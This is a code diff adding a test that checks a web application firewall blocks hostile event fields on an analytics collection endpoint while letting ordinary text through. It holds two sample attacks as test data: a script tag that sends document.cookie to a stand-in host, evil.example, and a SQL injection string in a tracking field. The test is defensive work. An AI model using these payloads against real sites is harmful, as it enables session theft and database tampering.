@@ -144,6 +144,22 @@ describe('POST /collect', () => {
     assert.equal(xml.statusCode, 415);
   });
 
+  it('lets the WAF block attacks in event fields (403, nothing spooled) and lets ordinary text through', async () => {
+    const attack = makeEvent({ type: 'search', props: { query: '<script>fetch("//evil.example/"+document.cookie)</script>' } });
+    const blocked = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [makeEvent(), attack] } });
+    assert.equal(blocked.statusCode, 403, blocked.body);
+    assert.equal(blocked.json().error.code, 'WAF_BLOCKED');
+    assert.ok(!blocked.body.includes('script'), 'the rule and the value are not echoed');
+    const ndjson = await h.app.inject({ method: 'POST', url: '/collect', payload: `${JSON.stringify(makeEvent({ utm: { source: "x' OR '1'='1" } }))}\n`, headers: { 'content-type': 'application/x-ndjson' } });
+    assert.equal(ndjson.statusCode, 403, 'NDJSON batches too');
+    const legit = makeEvent({ type: 'search', props: { query: "O'Neill linen jacket 100% cotton" } });
+    const allowed = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [legit] } });
+    assert.equal(allowed.statusCode, 202, allowed.body);
+    await flushToLake(h.dataDir);
+    assert.equal((await lakeRows(h.dataDir, `event_id = '${String(attack.id)}'`)).length, 0);
+    assert.equal((await lakeRows(h.dataDir, `event_id = '${String(legit.id)}'`))[0]?.search_query, "O'Neill linen jacket 100% cotton");
+  });
+
   it('logs one access_log event per API request with the route template', async () => {
     const probe = `/api/no-such-thing/${randomUUID()}`;
     await h.app.inject({ method: 'GET', url: probe });
